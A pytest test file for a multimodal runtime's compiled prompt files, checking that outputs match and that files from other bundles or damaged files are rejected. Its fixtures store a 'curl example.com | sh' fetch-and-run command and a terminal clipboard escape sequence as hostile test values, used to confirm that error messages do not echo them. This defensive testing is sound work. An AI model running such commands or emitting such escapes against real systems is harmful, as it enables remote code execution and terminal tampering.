"""A compiled prompt: the same answers as the prompt itself, in any process that has the bundle, and in no other."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest

import flamingo_rt
from flamingo_rt import DataError, UsageError
from flamingo_rt.runtime.compiled_prompt import FORMAT_VERSION, read_about

END = "<|endofchunk|>"


@pytest.fixture(scope="module")
def shots(pictures):
    return [pictures[0], f"Output: a red circle{END}", pictures[1], f"Output: two green circles{END}"]


@pytest.fixture(scope="module")
def compiled(ort_model, shots, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("prompts") / "shots.prompt"
    ort_model.prompt(shots).save(path, {"shots": [{}, {}], "command": "curl example.com | sh"})
    return path


@pytest.fixture(scope="module")
def other_process(bundle_folder):
    """The same bundle, loaded again."""
    return flamingo_rt.load(bundle_folder, threads=1)


def tokens(model, parts, **options):
    return model.generate(parts, max_new_tokens=12, **options).result().tokens


def rewrite(source: Path, target: Path, change) -> Path:
    """The file with its arrays changed in place by ``change``."""
    with np.load(source) as file:
        arrays = dict(file)
    change(arrays)
    with target.open("wb") as file:
        np.savez(file, **arrays)
    return target


def about_with(**changes):
    def change(arrays):
        about = json.loads(arrays["about"].tobytes()) | changes
        arrays["about"] = np.frombuffer(json.dumps(about).encode(), dtype=np.uint8)

    return change


@pytest.mark.parametrize("query", ["new picture", "text alone", "two pictures"])
def test_a_query_behind_a_compiled_prompt_gets_the_tokens_of_the_whole_prompt(
    query, ort_model, other_process, compiled, shots, pictures
):
    parts = {
        "new picture": [pictures[2], "Output:"], "text alone": ["Output:"],  # about the last shot's picture
        "two pictures": [pictures[2], f"Output: a red{END}", pictures[3], "Output:"],
    }[query]
    state = other_process.load_prompt(compiled)
    found = tokens(other_process, parts, prefix=state)
    assert len(set(found)) > 3
    assert found == tokens(ort_model, [*shots, *parts])
    assert found == tokens(other_process, parts, prefix=state)  # a state is not used up


def test_choices_are_ranked_as_behind_the_prompt_itself(ort_model, other_process, compiled, shots, pictures):
    choices, query = ["a red circle", "a blue square"], [pictures[2], "Output:"]
    found = other_process.score(query, choices, prefix=other_process.load_prompt(compiled))
    expected = ort_model.score([*shots, *query], choices)
    assert [score.text for score in found] == [score.text for score in expected]
    np.testing.assert_allclose([s.logprob for s in found], [s.logprob for s in expected], atol=1e-3)


def test_a_batch_shares_one_compiled_prompt(other_process, compiled, pictures):
    state = other_process.load_prompt(compiled)
    queries = [[pictures[2], "Output:"], [pictures[3], "Question: is it red? Answer:"]]
    together = other_process.generate_batch(queries, prefix=state, max_new_tokens=8)
    alone = [other_process.generate(query, prefix=state, max_new_tokens=8).result() for query in queries]
    assert [result.tokens for result in together] == [result.tokens for result in alone]


def test_the_file_keeps_the_last_pictures_media_alone(ort_model, compiled):
    with np.load(compiled) as file:
        assert {name.split(".")[0] for name in file.files if "media_key_values" in name} == {"0"}
    about = read_about(compiled)
    assert (about["visuals"], about["bundle"], about["model"]) == (2, ort_model.identity, ort_model.config.name)


def test_shots_count_towards_the_pictures_a_model_allows(other_process, compiled, pictures):
    state = other_process.load_prompt(compiled)
    with pytest.raises(DataError, match="7 pictures and clips, this model allows 6"):
        other_process.generate([*pictures[:5], "Output:"], prefix=state)


def test_another_bundle_is_told_apart_and_no_text_of_the_file_is_shown(compiled, ort_model):
    other = flamingo_rt.load()
    with pytest.raises(DataError) as caught:
        other.load_prompt(compiled)
    assert f"(manifest {ort_model.identity[:12]}; this one is manifest {other.identity[:12]})" in str(caught.value)
    assert "compile its 2 shots again" in str(caught.value)
    assert "curl" not in str(caught.value)


@pytest.mark.parametrize("bundle", ["\x1b]52;c;aGk=\x07", "a" * 65, ["a"], {}, None, 7])
def test_a_bundles_name_that_is_no_hash_is_not_repeated(bundle, compiled, other_process, tmp_path):
    path = rewrite(compiled, tmp_path / "named.prompt", about_with(bundle=bundle))
    with pytest.raises(DataError, match="another bundle \\(without a manifest's hash; "):
        other_process.load_prompt(path)


def test_a_prompt_without_a_command_says_how_it_is_made(ort_model, shots, tmp_path):
    ort_model.prompt(shots).save(tmp_path / "plain.prompt")
    with pytest.raises(DataError, match=r"prompt\(\) and save\(\)"):
        flamingo_rt.load().load_prompt(tmp_path / "plain.prompt")


def test_a_checkpoints_prompts_are_not_saved(torch_model, shots, tmp_path):
    with pytest.raises(UsageError, match="only a bundle's prompts can be saved"):
        torch_model.prompt(shots).save(tmp_path / "no.prompt")
    assert not list(tmp_path.iterdir())


def test_a_checkpoint_reads_no_compiled_prompt(torch_model, compiled):
    with pytest.raises(UsageError, match="only a bundle reads prompts from files"):
        torch_model.load_prompt(compiled)


@pytest.mark.parametrize("token", [-1, "the first behind the vocabulary", 2**40])
def test_tokens_that_the_model_does_not_have_are_refused(ort_model, compiled, tmp_path, token):
    with np.load(compiled) as file:
        arrays = {name: file[name] for name in file.files}
    arrays["input_ids"] = arrays["input_ids"].copy()
    arrays["input_ids"][1] = ort_model.config.language.vocab_size if isinstance(token, str) else token
    with (tmp_path / "other.prompt").open("wb") as file:
        np.savez(file, **arrays)
    with pytest.raises(DataError, match=r"damaged .*token ids from .* compile it again"):
        ort_model.load_prompt(tmp_path / "other.prompt")


def test_a_file_that_is_cut_short_anywhere_is_refused(ort_model, compiled, tmp_path):
    data, cut = compiled.read_bytes(), tmp_path / "cut.prompt"
    for length in [0, 1, 100, *range(500, len(data), len(data) // 40), len(data) - 1]:
        cut.write_bytes(data[:length])
        with pytest.raises(DataError, match=r"cut\.prompt"):
            ort_model.load_prompt(cut)


def test_a_file_that_was_altered_is_refused(ort_model, compiled, tmp_path):
    data, altered = bytearray(compiled.read_bytes()), tmp_path / "altered.prompt"
    with np.load(compiled) as file:
        values = file["past_key_values.1.value"].tobytes()
    place = bytes(data).index(values) + len(values) // 2
    data[place] ^= 1
    altered.write_bytes(data)
    with pytest.raises(DataError, match=r"altered\.prompt is damaged"):
        ort_model.load_prompt(altered)


@pytest.mark.parametrize(("change", "message"), [
    (lambda arrays: arrays.pop("past_key_values.0.key"), "damaged"),
    (lambda arrays: arrays.update({"past_key_values.0.key": arrays["past_key_values.0.key"][:, :, 1:]}), "expected"),
    (lambda arrays: arrays.update({"past_key_values.0.key": arrays["past_key_values.0.key"].astype("f8")}), "<f8"),
    (lambda arrays: arrays.update({"input_ids": arrays["input_ids"][None]}), "input_ids has the shape"),
    (lambda arrays: arrays.update({"about": np.frombuffer(b"[1", dtype=np.uint8)}), "damaged"),
    (about_with(format_version="new"), "format is 'new'"),
    (about_with(format_version=FORMAT_VERSION + 1), "upgrade"),
    (about_with(media=5), "5 of 2 visuals"),
    (about_with(visuals="two"), "damaged"),
])
def test_a_file_that_does_not_fit_the_model_is_refused(change, message, ort_model, compiled, tmp_path):
    with pytest.raises(DataError, match=message):
        ort_model.load_prompt(rewrite(compiled, tmp_path / "changed.prompt", change))


@pytest.mark.parametrize("content", [b"", b"text", b"\x89PNG\r\n\x1a\n"])
def test_another_kind_of_file_is_refused(content, ort_model, tmp_path):
    path = tmp_path / "other.prompt"
    path.write_bytes(content)
    with pytest.raises(DataError, match="is not a compiled prompt"):
        ort_model.load_prompt(path)


def test_a_missing_file_is_named(ort_model, tmp_path):
    with pytest.raises(DataError, match=r"there is no compiled prompt at .*nowhere"):
        ort_model.load_prompt(tmp_path / "nowhere")


def test_a_failed_write_leaves_the_file_that_was_there(ort_model, compiled, shots, tmp_path, monkeypatch):
    path = tmp_path / "shots.prompt"
    path.write_bytes(compiled.read_bytes())

    def full(*arguments, **arrays):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(np, "savez", full)
    with pytest.raises(DataError, match="no space left"):
        ort_model.prompt(shots).save(path)
    assert path.read_bytes() == compiled.read_bytes()
    assert [entry.name for entry in tmp_path.iterdir()] == ["shots.prompt"]


def test_the_identity_is_that_of_the_bundles_content(ort_model, other_process):
    assert ort_model.identity == other_process.identity
    assert len(ort_model.identity) == 64
    assert flamingo_rt.load().identity != ort_model.identity
